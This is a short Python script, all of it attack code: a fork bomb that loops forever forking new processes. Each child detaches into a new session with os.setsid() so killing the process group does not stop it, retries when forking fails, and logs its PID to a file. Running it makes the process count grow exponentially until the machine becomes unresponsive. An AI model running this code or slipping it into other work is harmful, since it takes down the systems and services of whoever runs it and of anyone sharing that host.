"""Fork without end. Every child leaves the process group and forks too."""

import os
import time

while True:
    try:
        pid = os.fork()
    except OSError:
        time.sleep(0.01)
        continue
    if pid == 0:
        os.setsid()
        with open("pids.txt", "a", encoding="ascii") as handle:
            handle.write(f"{os.getpid()}\n")
